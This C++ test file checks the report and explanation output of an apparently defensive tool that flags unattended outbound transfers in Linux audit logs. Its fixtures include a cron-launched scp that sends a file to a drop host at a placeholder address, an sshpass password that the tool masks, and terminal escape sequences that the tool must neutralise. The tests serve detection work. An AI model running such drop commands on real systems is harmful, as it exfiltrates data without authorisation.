#include "auexfil/report/table.hpp"

#include <algorithm>
#include <sstream>
#include <string>

#include <catch2/catch.hpp>

#include "../../src/report/wrap.hpp"
#include "auexfil/report/explain.hpp"
#include "sample.hpp"

using namespace auexfil;  // NOLINT(google-build-using-namespace): a test
using coverage::CoverageVerdict;
using report::append_table;
using report::Options;

namespace {

template <typename T>
std::string table(const T& record, const Options& options = {}) {
  std::string out;
  append_table(out, record, options);
  return out;
}

bool has(const std::string& text, const std::string& part) {
  return text.find(part) != std::string::npos;
}

std::size_t widest(const std::string& text) {
  std::size_t most = 0;
  std::istringstream lines(text);
  for (std::string line; std::getline(lines, line);) {
    most = std::max(most, report::columns_of(line));
  }
  return most;
}

/// The text as it was before it was wrapped.
std::string unwrapped(std::string text) {
  for (std::size_t at = text.find("\n  "); at != std::string::npos; at = text.find("\n  ", at)) {
    text.replace(at, 3, " ");
  }
  return text;
}

std::string end(const std::vector<coverage::HostCoverage>& hosts, std::uint64_t findings,
                const coverage::ReadSummary& read = {}) {
  report::Counts counts;
  counts.transfers = 31;
  counts.judged = report::Counts::Judged{12, 3, findings, 0};
  std::string out;
  append_table_end(out, sample::pointers(hosts), read, counts);
  CHECK(widest(out) <= report::kColumns);
  return out;
}

coverage::HostCoverage host_of(const char* name, CoverageVerdict verdict, const char* reason) {
  coverage::HostCoverage host = sample::coverage(name, verdict);
  host.reasons = {reason};
  return host;
}

}  // namespace

TEST_CASE("table: a finding") {
  CHECK(table(sample::finding()) ==
        "HIGH  bulk-unattended  etl-01 (role default)  2026-12-02 01:02:01 – 01:02:04 UTC\n"
        "      3.0 MiB (3,153,717 bytes) to 203.0.113.11:22 by scp, limit 1.0 MiB in 24 h\n"
        "        measured\n"
        "      cron → sh → scp -q f drop@203.0.113.11:up/    user root\n"
        "      why: started by cron (pid 311); 203.0.113.11 is on no allowlist\n"
        "      finding 00000000000000ab; transfer 9f0c000000000001\n");
}

TEST_CASE("table: bytes of flows of which nobody saw all are a bound") {
  policy::Finding finding = sample::finding();
  finding.basis = transfer::Basis::flow;
  finding.is_least = true;
  CHECK(has(table(finding), "≥ 3.0 MiB (3,153,717 bytes) to 203.0.113.11:22"));
  finding.is_least = false;
  CHECK_FALSE(has(table(finding), "≥"));
}

TEST_CASE("table: an unknown volume is ?, several destinations stand apart") {
  policy::Finding finding = sample::finding();
  finding.severity = policy::Severity::low;
  finding.limit_bytes = {};
  finding.bytes_out = {};
  finding.basis = transfer::Basis::unknown;
  finding.auid_user = "alice";
  finding.script = "/opt/x.sh";
  finding.destinations.clear();
  for (int i = 1; i <= 7; ++i) {
    policy::Finding::Destination to;
    to.address = "2001:db8::" + std::to_string(i);
    to.port = 22;
    finding.destinations.push_back(std::move(to));
  }
  finding.transfers.assign(5, 7);
  CHECK(table(finding) ==
        "LOW   bulk-unattended  etl-01 (role default)  2026-12-02 01:02:01 – 01:02:04 UTC\n"
        "      ? to 7 destinations by scp    unknown\n"
        "        [2001:db8::1]:22  ?    unknown\n"
        "        [2001:db8::2]:22  ?    unknown\n"
        "        [2001:db8::3]:22  ?    unknown\n"
        "        [2001:db8::4]:22  ?    unknown\n"
        "        [2001:db8::5]:22  ?    unknown\n"
        "        … and 2 more\n"
        "      cron → sh → scp -q f drop@203.0.113.11:up/    user root (login alice)\n"
        "      script: /opt/x.sh\n"
        "      why: started by cron (pid 311); 203.0.113.11 is on no allowlist\n"
        "      finding 00000000000000ab; transfers 0000000000000007, 0000000000000007,\n"
        "        0000000000000007 and 2 more\n");
  CHECK(!has(table(finding, Options{true, false, true}), "more"));
}

TEST_CASE("table: colour is added to the word, and nothing else changes") {
  const std::string colored = table(sample::finding(), Options{true, true, false});
  CHECK(colored == "\x1b[1;31mHIGH\x1b[0m" + table(sample::finding()).substr(4));
}

TEST_CASE("table: the log's escapes never reach the terminal, long commands are cut") {
  policy::Finding finding = sample::finding();
  finding.host = "h\x1b[2J";
  finding.role = "r\n";
  finding.tool = "\xc2\x9b";
  finding.user = "\x07";
  finding.chain = {"\x1b]0;x\x07"};
  finding.command = {"scp", std::string(1000, 'x'), "tail"};
  finding.reasons = {"why\r"};
  finding.destinations[0].address = "\xe2\x80\xae";
  const std::string out = table(finding);
  for (const char c : out) {
    CHECK((static_cast<unsigned char>(c) >= 0x20 || c == '\n'));
  }
  CHECK(!has(out, "\xc2\x9b"));
  CHECK(!has(out, "\xe2\x80\xae"));
  CHECK(has(out, "\\x1b]0;x\\x07 → scp\n        xxx"));
  CHECK(has(out, "x…    user \\x07"));
  CHECK(!has(out, "tail"));
  CHECK(has(table(finding, Options{true, false, true}), " tail"));
  CHECK(widest(out) <= report::kColumns);
  CHECK(widest(table(finding, Options{true, false, true})) <= report::kColumns);
}

TEST_CASE("table: a transfer") {
  CHECK(table(sample::fact()) ==
        "9f0c000000000001  scp out (client)  etl-01    2026-12-02 01:02:01 – 01:02:04 UTC\n"
        "      203.0.113.11:22  out 3.0 MiB (3,153,717 bytes)    measured\n"
        "      cron → sh → scp -q f drop@203.0.113.11:up/    user root\n"
        "      unattended\n"
        "      why: started by cron (pid 311); no terminal\n");
  CHECK(has(table(sample::unmeasured_fact()), "      drop.example.org  out ?, in ?    unknown\n"));
}

TEST_CASE("table: the last lines count and tell the coverage of each host") {
  const std::vector<coverage::HostCoverage> hosts = {
      host_of("etl-01", CoverageVerdict::adequate, "all there"),
      host_of("bk-07", CoverageVerdict::partial, "lost records 02:10–02:14")};
  CHECK(end(hosts, 5) ==
        "5 findings, 2 hosts; 31 transfers, 12 approved, 3 unmeasured.  Coverage: etl-01\n"
        "  adequate, bk-07 partial (lost records 02:10–02:14).\n");
}

namespace {

policy::Finding finding_of(const char* host, policy::Severity severity,
                           std::optional<std::uint64_t> bytes, std::uint64_t id) {
  policy::Finding finding = sample::finding();
  finding.host = host;
  finding.severity = severity;
  finding.bytes_out = bytes;
  finding.id = id;
  finding.rule = bytes ? "bulk-unattended" : "unmeasured";
  finding.destinations[0].bytes_out = bytes;
  finding.destinations[0].sender = finding;
  return finding;
}

std::vector<std::vector<std::uint64_t>> ids(const std::vector<report::Card>& cards) {
  std::vector<std::vector<std::uint64_t>> all;
  for (const report::Card& card : cards) {
    all.emplace_back();
    for (const policy::Finding* finding : card.findings) {
      all.back().push_back(finding->id);
    }
  }
  return all;
}

}  // namespace

TEST_CASE("table: findings stand by severity, then bytes, unknown ones last") {
  using policy::Severity;
  const std::vector<policy::Finding> findings = {
      finding_of("a", Severity::high, {}, 1), finding_of("a", Severity::high, 5, 2),
      finding_of("b", Severity::high, 0, 3),  finding_of("b", Severity::high, 700, 4),
      finding_of("c", Severity::low, 900, 5), finding_of("c", Severity::critical, 1, 6),
      finding_of("d", Severity::high, 5, 7)};
  CHECK(ids(report::to_cards(sample::pointers(findings), {}, false)) ==
        std::vector<std::vector<std::uint64_t>>{{6}, {4}, {2}, {7}, {3}, {1}, {5}});
}

TEST_CASE("table: a host whose log has no bytes has one card, unless all are asked for") {
  using policy::Severity;
  coverage::HostCoverage blind = host_of("app-02", CoverageVerdict::blind, "no bytes");
  blind.bytes = false;
  coverage::HostCoverage seen = host_of("etl-01", CoverageVerdict::adequate, "all there");
  seen.bytes = true;
  std::vector<policy::Finding> findings = {
      finding_of("app-02", Severity::high, {}, 1), finding_of("app-02", Severity::low, {}, 2),
      finding_of("etl-01", Severity::low, {}, 3),  finding_of("app-02", Severity::low, {}, 4),
      finding_of("etl-01", Severity::low, {}, 5),  finding_of("app-02", Severity::low, 12, 6)};
  findings[3].destinations[0].address = "drop.example.org";
  findings[3].destinations[0].port = {};
  findings[3].destinations[0].sender.job->what = "another";
  findings[3].start -= 60'000;
  // What is grave, has bytes, or lies on a host whose log has some, keeps its own card.
  CHECK(ids(report::to_cards(sample::pointers(findings), {&blind, &seen}, false)) ==
        std::vector<std::vector<std::uint64_t>>{{1}, {6}, {2, 4}, {3}, {5}});
  CHECK(report::to_cards(sample::pointers(findings), {&blind, &seen}, true).size() ==
        findings.size());
  CHECK(report::to_cards(sample::pointers(findings), {}, false).size() == findings.size());
  std::string out;
  append_table(out, report::to_cards(sample::pointers(findings), {&blind, &seen}, false)[2]);
  CHECK(out ==
        "LOW   unmeasured  app-02 (role default)       2026-12-02 01:01:01 – 01:02:04 UTC\n"
        "      no call that carries bytes is in the log: 2 findings without a volume, 2\n"
        "        jobs, 2 destinations (--all shows each)\n"
        "        cron: scp to 203.0.113.11:22, drop.example.org\n");
}

TEST_CASE("table: no line is wider than 80 columns, whatever stands in it") {
  policy::Finding finding = sample::finding();
  finding.host = std::string(300, 'h');
  finding.tool = "\xe6\xbc\xa2\xe5\xad\x97";  // two columns each
  finding.command = {"scp", "e\xcc\x81" + std::string(100, 'x'), "y"};
  for (int i = 0; i < 60; ++i) {
    finding.command.emplace_back("\xe6\xbc\xa2\xe5\xad\x97");
  }
  for (const bool verbose : {false, true}) {
    const std::string out = table(finding, Options{true, false, verbose});
    CHECK(widest(out) <= report::kColumns);
    CHECK(has(out, std::string(60, 'x')));
  }
}

TEST_CASE("wrap: lines break at blanks, words only where they fill a line") {
  const auto wrapped = [](const std::string& line, std::size_t indent) {
    std::string out;
    report::append_wrapped(out, line, indent);
    return out;
  };
  const std::string a(40, 'a');
  CHECK(wrapped("", 4) == "\n");
  CHECK(wrapped("  short", 4) == "  short\n");
  CHECK(wrapped(a + ' ' + std::string(39, 'b'), 4) == a + ' ' + std::string(39, 'b') + '\n');
  CHECK(wrapped(a + ' ' + std::string(40, 'b'), 4) == a + "\n    " + std::string(40, 'b') + '\n');
  CHECK(wrapped(a + "    " + a + "  ", 2) == a + "\n  " + a + '\n');
  CHECK(wrapped("  " + std::string(160, 'c'), 4) ==
        "  " + std::string(78, 'c') + "\n    " + std::string(76, 'c') + "\n    cccccc\n");
  CHECK(wrapped(std::string(79, 'd') + "\xe6\xbc\xa2", 0) ==
        std::string(79, 'd') + "\n\xe6\xbc\xa2\n");
}

TEST_CASE("table: no findings is said together with what it is worth") {
  const auto adequate = host_of("a", CoverageVerdict::adequate, "all there");
  const auto partial = host_of("p", CoverageVerdict::partial, "records were lost");
  const auto blind = host_of("b", CoverageVerdict::blind, "no call that carries bytes is audited");
  CHECK(has(unwrapped(end({adequate}, 0)), "No findings. Coverage adequate: "));
  CHECK(has(unwrapped(end({adequate, partial}, 0)),
            "No findings, but coverage is partial, so that proves "
            "little: records were lost.\n"));
  CHECK(has(unwrapped(end({blind}, 0)),
            "No findings, but this log could not have shown one: no call that "
            "carries bytes is audited.\n"));
  CHECK(has(unwrapped(end({adequate, blind}, 0)),
            "No findings, but the logs of 1 of 2 hosts could not have "
            "shown one: no call that carries bytes is audited.\n"));
  auto hiding = host_of("h", CoverageVerdict::partial, "200 MiB went to nobody knows where");
  hiding.may_hide_excess = true;
  CHECK(has(unwrapped(end({hiding}, 0)),
            "No findings, but more than a rule lets out may have gone unseen: 200 MiB went to "
            "nobody knows where.\n"));
  CHECK(has(unwrapped(end({partial, hiding}, 0)), "may have gone unseen on 1 of 2 hosts: 200 MiB"));
  CHECK(has(unwrapped(end({}, 0)), "No findings, but no host's audit log was read"));
  coverage::ReadSummary read;
  read.complete = false;
  read.inputs = {{"a.log", "read", ""}, {"x\x1b.gz", "damaged", "cut short"}};
  read.malformed = {{"odd_hex", 1200}, {"cut", 0}};
  const std::string out = end({adequate}, 0, read);
  CHECK(has(out, "No findings in what could be read."));
  CHECK(has(out, "Inputs: x\\x1b.gz damaged (cut short).\nMalformed lines: odd_hex 1,200.\n"));
}

TEST_CASE("table: many hosts are summed up, the worst named first") {
  std::vector<coverage::HostCoverage> hosts(
      20, host_of("fine", CoverageVerdict::adequate, "all there"));
  hosts.push_back(host_of("p", CoverageVerdict::partial, "lost"));
  hosts.push_back(host_of("b", CoverageVerdict::blind, "no bytes"));
  CHECK(has(unwrapped(end(hosts, 1)), "1 finding, 22 hosts; "));
  CHECK(has(unwrapped(end(hosts, 1)),
            "Coverage: 20 adequate, 1 partial, 1 blind: b blind (no bytes), p partial (lost).\n"));
}

TEST_CASE("explain: everything with its event and its line, masked and safe") {
  facts::Fact fact = sample::fact();
  fact.process.argv = {"sshpass", "-p", "hunter2", "scp", "f", "h:"};
  fact.notes = {"a note"};
  const std::vector<report::LogLine> lines = {
      {"audit.log.3", 1233,
       R"(type=EXECVE msg=audit(1.1:1): argc=3 a0="sshpass" a1="-p" a2="hunter2")"},
      {"audit.log.3", 1234, "type=SYSCALL\x1b[2J"}};
  std::string out;
  report::append_explanation(out, fact, lines, {{{{"write", 97, 3'153'717}}, {{5, 812}}}});
  CHECK(out ==
        "transfer 9f0c000000000001  scp out (client)\n"
        "  host        etl-01\n"
        "  time        2026-12-02 01:02:01 – 01:02:04 UTC\n"
        "  user        root, session 3\n"
        "  bytes       out 3.0 MiB (3,153,717 bytes)    measured\n"
        "  automation  unattended\n"
        "              cron: started by cron (pid 311)  [1796173321.113:512]\n"
        "              no-terminal: no terminal\n"
        "  job         cron: /bin/sh -c scp -q f drop@203.0.113.11:up/\n"
        "  process     811 /usr/bin/scp sshpass -p **** scp f h:\n"
        "              in /root\n"
        "  started by  810 /usr/bin/dash /bin/sh -c 'scp -q f drop@203.0.113.11:up/'\n"
        "  started by  311 /usr/sbin/cron /usr/sbin/cron -f\n"
        "  started by  1 /usr/lib/systemd/systemd \n"
        "  destination 203.0.113.11:22 tcp by connect  out 3.0 MiB (3,153,717 bytes)    measured\n"
        "              1 connection, 2026-12-02 01:02:01 – 01:02:04 UTC\n"
        "              descriptor 5 of pid 812\n"
        "              write: 97 calls, 3.0 MiB (3,153,717 bytes)\n"
        "  evidence    audit.log.3:1234 connect [1796173321.480:530]\n"
        "    audit.log.3:1234: type=SYSCALL\\x1b[2J\n"
        "  log lines   other records of these events\n"
        "    audit.log.3:1233: type=EXECVE msg=audit(1.1:1): argc=3 a0=\"sshpass\" a1=\"-p\" "
        "a2=\"****\"\n"
        "  note        a note\n");
}
